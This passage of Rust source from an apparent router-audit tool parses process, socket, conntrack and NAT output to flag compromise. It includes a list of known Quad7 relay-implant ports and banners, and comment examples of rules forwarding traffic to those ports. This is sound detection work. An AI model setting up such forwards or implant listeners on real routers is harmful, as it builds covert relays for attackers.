//! Checks: command output in, `router_audit` findings out.
//!
//! Why pure functions: the parsing of `/proc/net/tcp`, process lists and
//! crontabs is where the mistakes hide, and it can be tested on text
//! without a router. Each finding carries the command and the output lines
//! it rests on as evidence, and a stable id (router, check, key) so that
//! the same problem seen before and after a reboot is the same finding.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use jiff::Timestamp;
use orbwatch_detect::finding::fnv1a;
use orbwatch_detect::{Evidence, Finding, FindingKind, Severity};

use orbwatch_intel::IndicatorValue;

use crate::inventory::Router;
use crate::profiles;
use crate::ssh::SshOutput;
use crate::vendor;
use crate::vulnerable::{self, Entry, FirmwareFacts};

/// The DD-WRT nvram variables the `nvram` probe asks for.
const NVRAM_NAMES: [&str; 6] = [
    "wan_dns",
    "forward_spec",
    "forward_port",
    "rc_startup",
    "rc_firewall",
    "rc_custom",
];

/// Ports relay implants are known to listen on, and who reported them.
pub const IMPLANT_PORTS: [(u16, &str); 4] = [
    (
        7777,
        "Quad7 / CovertNetwork-1658 relay port (Sekoia, Microsoft); its banner reads 'xlogin:'",
    ),
    (11288, "Quad7 SOCKS5 port (Sekoia, Team Cymru)"),
    (
        63256,
        "port of the Quad7 'alogin' cluster on ASUS routers (Sekoia)",
    ),
    (
        63260,
        "port of the Quad7 'alogin' cluster on ASUS routers (Sekoia)",
    ),
];

/// Management services that should not answer on the WAN side.
pub const MANAGEMENT_PORTS: [(u16, &str); 9] = [
    (22, "SSH"),
    (23, "telnet"),
    (80, "HTTP admin"),
    (443, "HTTPS admin"),
    (7547, "TR-069"),
    (8080, "HTTP admin"),
    (8291, "Winbox"),
    (8443, "HTTPS admin"),
    (8728, "RouterOS API"),
];

/// Everything a check needs besides the output.
pub struct CheckContext<'a> {
    pub router: &'a Router,
    /// SHA-256 (lower-case hex) → feed name, from the store.
    pub hash_indicators: &'a HashMap<String, String>,
    /// Address indicators (single, CIDR, range) with their feed, from the
    /// store.
    pub ip_indicators: &'a [(IndicatorValue, String)],
    pub vulnerable: &'a [Entry],
    /// Public keys that are expected in `authorized_keys` besides the
    /// inventory's (orbwatch's own), as "type base64".
    pub own_keys: &'a [String],
    pub now: Timestamp,
}

/// What a probe's output is, looked up by probe id.
pub type Outputs = BTreeMap<&'static str, SshOutput>;

/// A finding under construction.
struct Raise<'c> {
    ctx: &'c CheckContext<'c>,
    out: Vec<Finding>,
}

impl Raise<'_> {
    #[allow(clippy::too_many_arguments)]
    fn add(
        &mut self,
        check: &str,
        key: &str,
        severity: Severity,
        score: u8,
        reason: String,
        command: &str,
        lines: &[(usize, &str)],
        extra: serde_json::Value,
    ) {
        self.add_from(
            check,
            key,
            severity,
            score,
            reason,
            &[(command, lines.to_vec())],
            extra,
        );
    }

    /// A finding resting on the output of several commands: each group
    /// is the command, then the lines of its output (numbered within that
    /// output).
    #[allow(clippy::too_many_arguments)]
    fn add_from(
        &mut self,
        check: &str,
        key: &str,
        severity: Severity,
        score: u8,
        reason: String,
        groups: &[(&str, Vec<(usize, &str)>)],
        extra: serde_json::Value,
    ) {
        let r = self.ctx.router;
        let src = format!("{}:{}", r.name, check);
        let mut evidence = Vec::new();
        let mut total = 0u64;
        for (command, lines) in groups {
            evidence.push(Evidence {
                file: src.clone(),
                line: None,
                offset: None,
                format: "router_audit".into(),
                raw: format!("$ {command}"),
                time: Some(self.ctx.now),
                context: false,
            });
            for (n, l) in lines.iter().take(20) {
                evidence.push(Evidence {
                    file: src.clone(),
                    line: Some(*n as u64 + 1),
                    offset: None,
                    format: "router_audit".into(),
                    raw: l.chars().take(500).collect(),
                    time: Some(self.ctx.now),
                    context: false,
                });
            }
            total += lines.len() as u64 + 1;
        }
        let mut details = serde_json::json!({
            "router": r.name,
            "host": r.host,
            "profile": r.profile.as_str(),
            "check": check,
            "key": key,
        });
        if let (Some(d), Some(e)) = (details.as_object_mut(), extra.as_object()) {
            for (k, v) in e {
                d.insert(k.clone(), v.clone());
            }
        }
        self.out.push(Finding {
            id: finding_id(&r.name, check, key),
            kind: FindingKind::RouterAudit,
            first_seen: Some(self.ctx.now),
            last_seen: Some(self.ctx.now),
            count: 1,
            src_ip: r.host.parse().ok(),
            dst_ip: None,
            ioc: None,
            targets: vec![r.name.clone()],
            accounts: Vec::new(),
            severity: Some(severity),
            score: Some(score),
            reasons: vec![reason],
            sources: Vec::new(),
            details: Some(details),
            evidence_total: total,
            evidence,
        });
    }
}

/// The stable id of a router finding.
pub fn finding_id(router: &str, check: &str, key: &str) -> String {
    fnv1a(&["router_audit", router, check, key])
}

/// The `check` name of a router finding (from its details).
pub fn check_of(f: &Finding) -> &str {
    f.details
        .as_ref()
        .and_then(|d| d.get("check"))
        .and_then(|c| c.as_str())
        .unwrap_or("")
}

/// Run every check on the collected output. `banners` holds what orbwatch
/// read when it connected to the router's implant ports itself.
pub fn run_all(
    ctx: &CheckContext<'_>,
    outputs: &Outputs,
    banners: &BTreeMap<u16, String>,
) -> Vec<Finding> {
    let mut r = Raise {
        ctx,
        out: Vec::new(),
    };
    let text = |id: &str| outputs.get(id).map(|o| o.stdout.as_str());
    if let Some(t) = text(profiles::UPTIME.id) {
        check_uptime(&mut r, t);
    }
    if let Some(t) = text(profiles::VERSION.id) {
        check_version(&mut r, t);
    }
    if let Some(t) = text(profiles::LISTENING.id) {
        check_listening(&mut r, t, banners);
    }
    check_connections(
        &mut r,
        text(profiles::LISTENING.id).unwrap_or(""),
        text(profiles::UDP.id).unwrap_or(""),
        text(profiles::CONNTRACK.id).unwrap_or(""),
    );
    let nat = text(profiles::NAT.id).unwrap_or("");
    let mut nat_forwards = parse_iptables_forwards(nat);
    nat_forwards.extend(parse_nft_forwards(nat));
    let uci_fw = text(profiles::UCI_FIREWALL.id).unwrap_or("");
    let ros_nat = text(profiles::ROS_NAT.id).unwrap_or("");
    let config_boot = text(profiles::CONFIG_BOOT.id).unwrap_or("");
    let config_leaves = vendor::parse_config_boot(config_boot);
    let nvram = text(profiles::NVRAM.id).unwrap_or("");
    let nvram_vars = vendor::parse_nvram(nvram, &NVRAM_NAMES);
    let nvram_forwards: Vec<(usize, &str)> = ["forward_spec", "forward_port"]
        .iter()
        .flat_map(|k| nvram_vars.get(*k).cloned().unwrap_or_default())
        .collect();
    check_forwards(
        &mut r,
        &[
            ForwardSource {
                command: profiles::NAT.command,
                text: nat,
                forwards: nat_forwards,
            },
            ForwardSource {
                command: profiles::UCI_FIREWALL.command,
                text: uci_fw,
                forwards: parse_uci_forwards(uci_fw),
            },
            ForwardSource {
                command: profiles::ROS_NAT.command,
                text: ros_nat,
                forwards: vendor::routeros_forwards(ros_nat),
            },
            ForwardSource {
                command: profiles::CONFIG_BOOT.command,
                text: config_boot,
                forwards: vendor::config_boot_forwards(&config_leaves),
            },
            ForwardSource {
                command: profiles::NVRAM.command,
                text: nvram,
                forwards: vendor::ddwrt_forwards(&nvram_forwards),
            },
        ],
    );
    check_vendor(
        &mut r,
        text(profiles::ROS_RESOURCE.id),
        text(profiles::ROS_SCHEDULER.id),
        text(profiles::ROS_SCRIPT.id),
        (config_boot, &config_leaves),
        &nvram_vars,
    );
    let mut exe_of_pid = HashMap::new();
    if let Some(t) = text(profiles::PROCESSES.id) {
        exe_of_pid = check_processes(&mut r, t);
    }
    if let Some(t) = text(profiles::HASHES.id) {
        check_hashes(&mut r, t, &exe_of_pid);
    }
    if let Some(t) = text(profiles::PERSISTENCE.id) {
        check_persistence(&mut r, t);
    }
    // DNS servers the platform's own settings name, checked with the
    // shell's resolv.conf and uci in one go (EdgeOS writes its
    // name-server into both: one finding).
    let mut vendor_dns: Vec<DnsServer<'_>> = Vec::new();
    if let Some(t) = text(profiles::ROS_DNS.id) {
        for key in ["servers", "dynamic-servers"] {
            if let Some((v, n)) = vendor::routeros_fields(t).get(key) {
                for ip in v.split(',').filter_map(|a| a.trim().parse::<IpAddr>().ok()) {
                    let line = t.lines().nth(*n).unwrap_or("");
                    vendor_dns.push((ip, *n, line, "RouterOS /ip dns", profiles::ROS_DNS.command));
                }
            }
        }
    }
    for (ip, n) in vendor::config_boot_dns(&config_leaves) {
        let line = config_boot.lines().nth(n).unwrap_or("");
        vendor_dns.push((ip, n, line, "config.boot", profiles::CONFIG_BOOT.command));
    }
    for (n, line) in nvram_vars.get("wan_dns").cloned().unwrap_or_default() {
        for ip in line
            .split_whitespace()
            .filter_map(|a| a.parse::<IpAddr>().ok())
        {
            let full = nvram.lines().nth(n).unwrap_or("");
            vendor_dns.push((ip, n, full, "nvram wan_dns", profiles::NVRAM.command));
        }
    }
    check_dns(
        &mut r,
        text(profiles::DNS.id).unwrap_or(""),
        text(profiles::UCI_DNS.id).unwrap_or(""),
        vendor_dns,
    );
    let apk = text(profiles::APK_INSTALLED.id).map(ApkInstalled::parse);
    if let Some(exes) = text(profiles::SYSTEM_EXECUTABLES.id) {
        let mut owned = PackageFiles::default();
        if let Some(lists) = text(profiles::OPKG_FILES.id) {
            owned.add_opkg_lists(lists);
        }
        if let Some(apk) = &apk {
            owned.add_apk(apk);
        }
        check_unowned_executables(&mut r, &owned, exes);
    }
    if let Some(audit) = text(profiles::APK_AUDIT.id) {
        check_apk_audit(&mut r, audit, apk.as_ref());
    }
    if let Some(t) = text(profiles::AUTHORIZED_KEYS.id) {
        check_authorized_keys(&mut r, t);
    }
    if let Some(t) = text(profiles::ACCOUNTS.id) {
        check_accounts(&mut r, t);
    }
    r.out.sort_by(orbwatch_detect::most_serious_first);
    r.out
}

/// Seconds since boot from the output of `probe` (the profile's
/// [`crate::Profile::uptime_probe`]): `/proc/uptime`, or RouterOS's
/// `/system resource print`.
pub fn uptime_from(probe: profiles::Probe, text: &str) -> Option<f64> {
    if probe.id == profiles::ROS_RESOURCE.id {
        let f = vendor::routeros_fields(text);
        return f
            .get("uptime")
            .and_then(|(v, _)| vendor::routeros_duration(v));
    }
    uptime_secs(text)
}

/// Seconds since boot from `/proc/uptime`.
pub fn uptime_secs(text: &str) -> Option<f64> {
    text.split_whitespace()
        .next()?
        .parse::<f64>()
        .ok()
        .filter(|v| v.is_finite() && *v >= 0.0)
}

fn check_uptime(r: &mut Raise<'_>, t: &str) {
    let Some(up) = uptime_secs(t) else { return };
    check_uptime_secs(r, up, profiles::UPTIME.command, (0, t.trim()));
}

fn check_uptime_secs(r: &mut Raise<'_>, up: f64, command: &str, line: (usize, &str)) {
    let max = r.ctx.router.max_uptime_days.saturating_mul(86_400);
    if up > max as f64 {
        let days = up / 86_400.0;
        r.add(
            "uptime",
            "over_policy",
            Severity::Low,
            20,
            format!(
                "up {days:.1} days, longer than the policy's {} days: a reboot clears implants that live only in memory",
                r.ctx.router.max_uptime_days
            ),
            command,
            &[line],
            serde_json::json!({"uptime_secs": up}),
        );
    }
}

fn check_version(r: &mut Raise<'_>, t: &str) {
    let facts = vulnerable::facts(t);
    let lines: Vec<(usize, &str)> = t
        .lines()
        .enumerate()
        .filter(|(_, l)| !l.trim().is_empty())
        .take(8)
        .collect();
    check_version_facts(r, &facts, profiles::VERSION.command, &lines);
}

fn check_version_facts(
    r: &mut Raise<'_>,
    facts: &FirmwareFacts,
    command: &str,
    lines: &[(usize, &str)],
) {
    for e in r.ctx.vulnerable.iter().filter(|e| e.matches(facts)) {
        let what = format!(
            "{} {}",
            facts.os.as_deref().unwrap_or(""),
            facts.version.as_deref().unwrap_or("")
        );
        r.add(
            "firmware",
            &e.id,
            e.severity(),
            70,
            format!(
                "firmware {} {} is on the known-vulnerable list ({}): {}{}{}{}",
                what.trim(),
                facts.model.trim(),
                e.id,
                e.note,
                if e.cves.is_empty() { String::new() } else { format!(" [{}]", e.cves.join(", ")) },
                match e.advisories.first() {
                    Some(a) => format!(" (advisory {}: {})", a.id, a.url),
                    None => String::new(),
                },
                // Issue 16: what the list could not check is said where the
                // analyst reads the finding, not only in the data file.
                match e.caveat() {
                    Some(c) => format!(" [{c}]"),
                    None => String::new(),
                }
            ),
            command,
            lines,
            serde_json::json!({"entry": e.id, "cves": e.cves, "campaigns": e.campaigns, "advisories": e.advisories, "sources": e.sources, "list": e.list, "verified": e.verified, "unverified": e.unverified, "evidence": e.evidence}),
        );
    }
}

/// A listening TCP socket from `/proc/net/tcp{,6}`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Listener {
    pub addr: IpAddr,
    pub port: u16,
    pub line: usize,
}

/// Parse `/proc/net/tcp` and `/proc/net/tcp6` text; `state` `0A` is LISTEN.
pub fn parse_proc_net_tcp(t: &str, want_state: &str) -> Vec<(IpAddr, u16, IpAddr, u16, usize)> {
    let mut v = Vec::new();
    for (n, line) in t.lines().enumerate() {
        let f: Vec<&str> = line.split_whitespace().collect();
        if f.len() < 4 || !f[0].ends_with(':') {
            continue;
        }
        if !f[3].eq_ignore_ascii_case(want_state) {
            continue;
        }
        let (Some((la, lp)), Some((ra, rp))) = (hex_endpoint(f[1]), hex_endpoint(f[2])) else {
            continue;
        };
        v.push((la, lp, ra, rp, n));
    }
    v
}

fn hex_endpoint(s: &str) -> Option<(IpAddr, u16)> {
    let (a, p) = s.split_once(':')?;
    let port = u16::from_str_radix(p, 16).ok()?;
    let addr = match a.len() {
        8 => IpAddr::V4(Ipv4Addr::from(
            u32::from_str_radix(a, 16).ok()?.swap_bytes(),
        )),
        32 => {
            let mut b = [0u8; 16];
            for i in 0..4 {
                let w = u32::from_str_radix(a.get(i * 8..i * 8 + 8)?, 16).ok()?;
                b[i * 4..i * 4 + 4].copy_from_slice(&w.to_le_bytes());
            }
            let v6 = Ipv6Addr::from(b);
            match v6.to_ipv4_mapped() {
                Some(v4) => IpAddr::V4(v4),
                None => IpAddr::V6(v6),
            }
        }
        _ => return None,
    };
    Some((addr, port))
}

/// The listening sockets of the `listening` probe.
pub fn listeners(t: &str) -> Vec<Listener> {
    parse_proc_net_tcp(t, "0A")
        .into_iter()
        .map(|(addr, port, _, _, line)| Listener { addr, port, line })
        .collect()
}

fn check_listening(r: &mut Raise<'_>, t: &str, banners: &BTreeMap<u16, String>) {
    let lines: Vec<&str> = t.lines().collect();
    let ls = listeners(t);
    let mut seen = BTreeSet::new();
    for l in &ls {
        if !seen.insert((l.port, l.addr)) {
            continue;
        }
        let raw = [(l.line, lines.get(l.line).copied().unwrap_or(""))];
        if let Some((_, who)) = IMPLANT_PORTS.iter().find(|(p, _)| *p == l.port) {
            let banner = banners.get(&l.port).map(|b| b.trim().to_string());
            let xlogin = banner
                .as_deref()
                .is_some_and(|b| b.contains("xlogin") || b.contains("alogin"));
            let (sev, score) = if xlogin {
                (Severity::Critical, 95)
            } else {
                (Severity::High, 75)
            };
            let b = match &banner {
                Some(b) if !b.is_empty() => format!("; it answered {b:?}"),
                _ => "; orbwatch could not read a banner".into(),
            };
            r.add(
                "listening_port",
                &l.port.to_string(),
                sev,
                score,
                format!("TCP port {} listens on {}: {who}{b}", l.port, l.addr),
                profiles::LISTENING.command,
                &raw,
                serde_json::json!({"port": l.port, "address": l.addr, "banner": banner}),
            );
        }
        if let Some(wan) = r.ctx.router.wan_address
            && (l.addr == wan || l.addr.is_unspecified())
            && let Some((_, what)) = MANAGEMENT_PORTS.iter().find(|(p, _)| *p == l.port)
        {
            r.add(
                "wan_management",
                &l.port.to_string(),
                Severity::Medium,
                50,
                format!(
                    "{what} (TCP {}) listens on {} and so on the WAN address {wan}: management must not face the Internet",
                    l.port, l.addr
                ),
                profiles::LISTENING.command,
                &raw,
                serde_json::json!({"port": l.port, "address": l.addr}),
            );
        }
    }
}

/// Does an address indicator cover `ip`?
pub fn indicator_covers(v: &IndicatorValue, ip: IpAddr) -> bool {
    match v {
        IndicatorValue::Ip(a) => *a == ip,
        IndicatorValue::Cidr(net) => net.contains(&ip),
        IndicatorValue::Range { first, last } => {
            first.is_ipv4() == ip.is_ipv4() && *first <= ip && ip <= *last
        }
        _ => false,
    }
}

/// One flow of the connection-tracking table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Flow {
    /// `tcp`, `udp`, `icmp`…
    pub proto: String,
    /// The TCP state (`ESTABLISHED`, `TIME_WAIT`…); none for other
    /// protocols.
    pub state: Option<String>,
    /// The original direction: who opened the flow, to whom.
    pub src: IpAddr,
    pub dst: IpAddr,
    pub sport: Option<u16>,
    pub dport: Option<u16>,
    /// The reply direction's source: differs from `dst` when the router
    /// rewrote the destination (DNAT, a port forward).
    pub reply_src: Option<IpAddr>,
    /// `[UNREPLIED]`: the other side never answered.
    pub unreplied: bool,
    /// Line number in the output (0-based).
    pub line: usize,
}

/// Parse the connection-tracking table, in either of its real formats:
///
/// - `/proc/net/nf_conntrack`:
///   `ipv4     2 tcp      6 431999 ESTABLISHED src=10.0.0.2 dst=203.0.113.9 sport=53182 dport=443 src=203.0.113.9 dst=10.0.0.2 sport=443 dport=53182 [ASSURED] mark=0 zone=0 use=2`
/// - `conntrack -L` (conntrack-tools), the same without the first two
///   columns: `udp      17 29 src=… dst=… sport=5353 dport=53 [UNREPLIED] src=… …`
///
/// The first `src=`/`dst=`/`sport=`/`dport=` are the original direction,
/// the second set the reply. Lines that hold no flow (the tool's summary
/// "N flow entries have been shown", blank lines) are skipped.
pub fn parse_conntrack(t: &str) -> Vec<Flow> {
    let mut v = Vec::new();
    for (n, line) in t.lines().enumerate() {
        let toks: Vec<&str> = line.split_whitespace().collect();
        let mut i = 0;
        if matches!(toks.first(), Some(&"ipv4") | Some(&"ipv6")) {
            i = 2;
        }
        let Some(proto) = toks.get(i) else { continue };
        if !proto.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            || toks.get(i + 1).and_then(|p| p.parse::<u8>().ok()).is_none()
        {
            continue;
        }
        let mut state = None;
        let (mut src, mut dst, mut sport, mut dport) = (None, None, None, None);
        let mut reply_src = None;
        let mut in_reply = false;
        let mut unreplied = false;
        for tok in toks.iter().skip(i + 3) {
            if *tok == "[UNREPLIED]" {
                unreplied = true;
                continue;
            }
            let Some((k, val)) = tok.split_once('=') else {
                if state.is_none()
                    && src.is_none()
                    && tok.chars().all(|c| c.is_ascii_uppercase() || c == '_')
                {
                    state = Some(tok.to_string());
                }
                continue;
            };
            match k {
                "src" if src.is_some() => {
                    in_reply = true;
                    reply_src = val.parse().ok();
                }
                "src" => src = val.parse::<IpAddr>().ok(),
                "dst" if !in_reply => dst = val.parse::<IpAddr>().ok(),
                "sport" if !in_reply => sport = val.parse().ok(),
                "dport" if !in_reply => dport = val.parse().ok(),
                _ => {}
            }
        }
        let (Some(src), Some(dst)) = (src, dst) else {
            continue;
        };
        v.push(Flow {
            proto: proto.to_string(),
            state,
            src,
            dst,
            sport,
            dport,
            reply_src,
            unreplied,
            line: n,
        });
    }
    v
}

/// What a connection to a feed address was seen in, for one remote.
struct Sighting<'t> {
    feed: String,
    what: Vec<String>,
    tcp: Vec<(usize, &'t str)>,
    udp: Vec<(usize, &'t str)>,
    conntrack: Vec<(usize, &'t str)>,
}

/// Connections between the router and an address a feed lists (a relay
/// implant talking to its controller, or a LAN host the router forwards
/// to one), from three sources that see different things: TCP sockets
/// (established or opening), connected UDP sockets, and the
/// connection-tracking table (forwarded flows, and flows whose socket has
/// already closed). One finding per remote address, whatever saw it, with
/// each source's lines as evidence.
fn check_connections(r: &mut Raise<'_>, tcp: &str, udp: &str, conntrack: &str) {
    if r.ctx.ip_indicators.is_empty() {
        return;
    }
    let feed_of = |ip: IpAddr| {
        r.ctx
            .ip_indicators
            .iter()
            .find(|(v, _)| indicator_covers(v, ip))
            .map(|(_, f)| f.clone())
    };
    let mut by_remote: BTreeMap<IpAddr, Sighting<'_>> = BTreeMap::new();
    let tcp_lines: Vec<&str> = tcp.lines().collect();
    let udp_lines: Vec<&str> = udp.lines().collect();
    let ct_lines: Vec<&str> = conntrack.lines().collect();
    let mut hits: Vec<(IpAddr, String, &'static str, String, usize)> = Vec::new();
    for state in ["01", "02"] {
        for (local, lport, remote, rport, n) in parse_proc_net_tcp(tcp, state) {
            if let Some(feed) = feed_of(remote) {
                let st = if state == "01" {
                    "established"
                } else {
                    "opening"
                };
                hits.push((
                    remote,
                    feed,
                    "tcp",
                    format!("TCP {local}:{lport} -> {remote}:{rport} ({st})"),
                    n,
                ));
            }
        }
    }
    // A UDP socket is "01" once connect()ed to a peer; an unconnected one
    // ("07") has no remote address.
    for (local, lport, remote, rport, n) in parse_proc_net_tcp(udp, "01") {
        if remote.is_unspecified() {
            continue;
        }
        if let Some(feed) = feed_of(remote) {
            hits.push((
                remote,
                feed,
                "udp",
                format!("UDP {local}:{lport} -> {remote}:{rport} (connected socket)"),
                n,
            ));
        }
    }
    for f in parse_conntrack(conntrack) {
        let mut addrs = vec![f.dst, f.src];
        if let Some(rs) = f.reply_src
            && rs != f.dst
        {
            addrs.push(rs);
        }
        let Some((remote, feed)) = addrs
            .into_iter()
            .find_map(|a| feed_of(a).map(|feed| (a, feed)))
        else {
            continue;
        };
        let port = |p: Option<u16>| p.map(|p| format!(":{p}")).unwrap_or_default();
        let mut d = format!(
            "conntrack {} {}{} -> {}{}",
            f.proto,
            f.src,
            port(f.sport),
            f.dst,
            port(f.dport)
        );
        if let Some(rs) = f.reply_src
            && rs != f.dst
        {
            d.push_str(&format!(" (forwarded to {rs})"));
        }
        if let Some(st) = &f.state {
            d.push_str(&format!(" {st}"));
        }
        if f.unreplied {
            d.push_str(" unreplied");
        }
        hits.push((remote, feed, "conntrack", d, f.line));
    }
    for (remote, feed, source, desc, n) in hits {
        let s = by_remote.entry(remote).or_insert_with(|| Sighting {
            feed,
            what: Vec::new(),
            tcp: Vec::new(),
            udp: Vec::new(),
            conntrack: Vec::new(),
        });
        let (list, lines) = match source {
            "tcp" => (&mut s.tcp, &tcp_lines),
            "udp" => (&mut s.udp, &udp_lines),
            _ => (&mut s.conntrack, &ct_lines),
        };
        list.push((n, lines.get(n).copied().unwrap_or("")));
        if s.what.len() < 5 {
            s.what.push(desc);
        }
    }
    for (remote, s) in by_remote {
        let mut groups = Vec::new();
        let mut sources = Vec::new();
        for (name, probe, lines) in [
            ("tcp", profiles::LISTENING, s.tcp),
            ("udp", profiles::UDP, s.udp),
            ("conntrack", profiles::CONNTRACK, s.conntrack),
        ] {
            if !lines.is_empty() {
                sources.push(name);
                groups.push((probe.command, lines));
            }
        }
        r.add_from(
            "connection",
            &remote.to_string(),
            Severity::Critical,
            90,
            format!(
                "the router talks with {remote}, an address listed by feed {:?}: {}",
                s.feed,
                s.what.join("; ")
            ),
            &groups,
            serde_json::json!({"remote": remote, "feed": s.feed, "seen_in": sources}),
        );
    }
}

/// A port forward or NAT redirect, from any of the rule sources.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Forward {
    /// `dnat` (to another host) or `redirect` (to a port of the router
    /// itself).
    pub kind: &'static str,
    /// `iptables`, `nft` or `uci`.
    pub source: &'static str,
    pub proto: Option<String>,
    /// The destination port the rule matches (as written: `8080`,
    /// `8000-8100`, `{ 80, 443 }`).
    pub match_port: Option<String>,
    /// Where traffic goes: `None` for a redirect to the router itself.
    pub to_addr: Option<IpAddr>,
    /// The port it goes to (the first of a range).
    pub to_port: Option<u16>,
    /// Line numbers in the output (0-based).
    pub lines: Vec<usize>,
}

impl Forward {
    /// Where the traffic goes, as `expected_forwards` writes it:
    /// `addr:port`, `addr`, or `:port` for a redirect.
    pub fn destination(&self) -> String {
        match (self.to_addr, self.to_port) {
            (Some(IpAddr::V6(a)), Some(p)) => format!("[{a}]:{p}"),
            (Some(a), Some(p)) => format!("{a}:{p}"),
            (Some(a), None) => a.to_string(),
            (None, Some(p)) => format!(":{p}"),
            (None, None) => String::new(),
        }
    }
}

/// `203.0.113.7:11288`, `203.0.113.7`, `[2001:db8::1]:80`, `:7777`,
/// `10.0.0.1-10.0.0.9:80-90` (the first of a range) → (address, port).
fn parse_nat_target(t: &str) -> Option<(Option<IpAddr>, Option<u16>)> {
    let first_port = |p: &str| p.split('-').next().and_then(|p| p.parse::<u16>().ok());
    if let Some(rest) = t.strip_prefix('[') {
        let (a, after) = rest.split_once(']')?;
        let ip = a.parse::<IpAddr>().ok()?;
        let port = after.strip_prefix(':').and_then(first_port);
        return Some((Some(ip), port));
    }
    if let Some(p) = t.strip_prefix(':') {
        return Some((None, Some(first_port(p)?)));
    }
    if let Ok(ip) = t.parse::<IpAddr>() {
        return Some((Some(ip), None));
    }
    let (a, p) = t.rsplit_once(':')?;
    let a = a.split('-').next()?;
    Some((Some(a.parse().ok()?), first_port(p)))
}

/// DNAT and REDIRECT rules of `iptables-save` output (`-A PREROUTING -p
/// tcp -m tcp --dport 8080 -j DNAT --to-destination 203.0.113.7:11288`,
/// `-j REDIRECT --to-ports 7777`).
pub fn parse_iptables_forwards(t: &str) -> Vec<Forward> {
    let mut v = Vec::new();
    for (n, line) in t.lines().enumerate() {
        if !line.starts_with("-A ") {
            continue;
        }
        let toks: Vec<&str> = line.split_whitespace().collect();
        let after = |flag: &str| {
            toks.iter()
                .position(|t| *t == flag)
                .and_then(|i| toks.get(i + 1))
                .map(|s| s.to_string())
        };
        let kind = match after("-j").as_deref() {
            Some("DNAT") => "dnat",
            Some("REDIRECT") => "redirect",
            _ => continue,
        };
        let (to_addr, to_port) = if kind == "dnat" {
            match after("--to-destination")
                .as_deref()
                .and_then(parse_nat_target)
            {
                Some(t) => t,
                None => continue,
            }
        } else {
            (
                None,
                after("--to-ports").and_then(|p| p.split('-').next().and_then(|p| p.parse().ok())),
            )
        };
        v.push(Forward {
            kind,
            source: "iptables",
            proto: after("-p"),
            match_port: after("--dport").or_else(|| after("--dports")),
            to_addr,
            to_port,
            lines: vec![n],
        });
    }
    v
}

/// `dnat` and `redirect` statements of `nft list ruleset` output
/// (`tcp dport 8080 counter packets 0 bytes 0 dnat to 203.0.113.7:11288`,
/// fw4's `meta nfproto ipv4 tcp dport 8080 counter … dnat ip to
/// 192.168.1.10:80 comment "!fw4: …"`, `redirect to :7777`). Maps
/// (`dnat to ip daddr map @x`) name no single target and are skipped.
pub fn parse_nft_forwards(t: &str) -> Vec<Forward> {
    let mut v = Vec::new();
    for (n, line) in t.lines().enumerate() {
        let rule = match line.find(" comment \"") {
            Some(i) => &line[..i],
            None => line,
        };
        let toks: Vec<&str> = rule.split_whitespace().collect();
        // The statement, not a word of a match: `icmp type redirect drop`
        // matches ICMP redirects, `ct status dnat accept` accepts flows a
        // DNAT rule already rewrote; neither is a forward.
        let Some(i) = toks.iter().enumerate().position(|(k, t)| {
            (*t == "dnat" || *t == "redirect")
                && !matches!(
                    k.checked_sub(1).and_then(|p| toks.get(p)),
                    Some(&"type") | Some(&"status") | Some(&"code") | Some(&"{") | Some(&",")
                )
                && !toks
                    .get(k + 1)
                    .is_some_and(|n| n.ends_with(',') || *n == "}")
        }) else {
            continue;
        };
        let kind = if toks[i] == "dnat" {
            "dnat"
        } else {
            "redirect"
        };
        let mut j = i + 1;
        if matches!(toks.get(j), Some(&"ip") | Some(&"ip6")) {
            j += 1;
        }
        let (to_addr, to_port) = if toks.get(j) == Some(&"to") {
            match toks.get(j + 1).and_then(|t| parse_nat_target(t)) {
                Some(t) => t,
                None => continue,
            }
        } else if kind == "redirect" && toks.get(j).is_none() {
            // A bare `redirect`: to the same port, on the router itself.
            (None, None)
        } else {
            continue;
        };
        let dport = toks.iter().position(|t| *t == "dport").and_then(|d| {
            let first = *toks.get(d + 1)?;
            if first == "{" {
                let end = toks[d + 1..].iter().position(|t| *t == "}")? + d + 1;
                Some(toks[d + 1..=end].join(" "))
            } else {
                Some(first.to_string())
            }
        });
        let proto = toks
            .iter()
            .position(|t| *t == "dport")
            .and_then(|d| d.checked_sub(1))
            .and_then(|p| toks.get(p))
            .filter(|p| matches!(**p, "tcp" | "udp" | "sctp"))
            .map(|p| p.to_string());
        v.push(Forward {
            kind,
            source: "nft",
            proto,
            match_port: dport,
            to_addr,
            to_port,
            lines: vec![n],
        });
    }
    v
}

/// OpenWrt `redirect` sections of `uci show firewall` with target DNAT
/// (the default), enabled:
///
/// ```text
/// firewall.@redirect[0]=redirect
/// firewall.@redirect[0].target='DNAT'
/// firewall.@redirect[0].src='wan'
/// firewall.@redirect[0].src_dport='8080'
/// firewall.@redirect[0].dest_ip='192.168.1.10'
/// firewall.@redirect[0].dest_port='80'
/// ```
///
/// Without `dest_ip` the forward goes to the router itself (a redirect);
/// without `dest_port` to the same port as `src_dport`.
pub fn parse_uci_forwards(t: &str) -> Vec<Forward> {
    let mut sections: BTreeMap<String, (Vec<usize>, BTreeMap<String, String>)> = BTreeMap::new();
    let mut order = Vec::new();
    for (n, line) in t.lines().enumerate() {
        let Some((k, val)) = line.split_once('=') else {
            continue;
        };
        let val = val.trim().trim_matches('\'').to_string();
        let Some(rest) = k.strip_prefix("firewall.") else {
            continue;
        };
        match rest.split_once('.') {
            None if val == "redirect" => {
                order.push(rest.to_string());
                sections.insert(rest.to_string(), (vec![n], BTreeMap::new()));
            }
            Some((sec, opt)) => {
                if let Some((lines, opts)) = sections.get_mut(sec) {
                    lines.push(n);
                    opts.insert(opt.to_string(), val);
                }
            }
            None => {}
        }
    }
    let mut v = Vec::new();
    for name in order {
        let Some((lines, o)) = sections.remove(&name) else {
            continue;
        };
        let get = |k: &str| o.get(k).map(String::as_str);
        if get("enabled") == Some("0")
            || !get("target").unwrap_or("DNAT").eq_ignore_ascii_case("DNAT")
        {
            continue;
        }
        let port =
            |p: Option<&str>| p.and_then(|p| p.split(['-', ':']).next()?.parse::<u16>().ok());
        let to_addr = get("dest_ip").and_then(|a| a.parse().ok());
        let to_port = port(get("dest_port")).or(port(get("src_dport")));
        v.push(Forward {
            kind: if to_addr.is_some() {
                "dnat"
            } else {
                "redirect"
            },
            source: "uci",
            proto: get("proto").map(str::to_string),
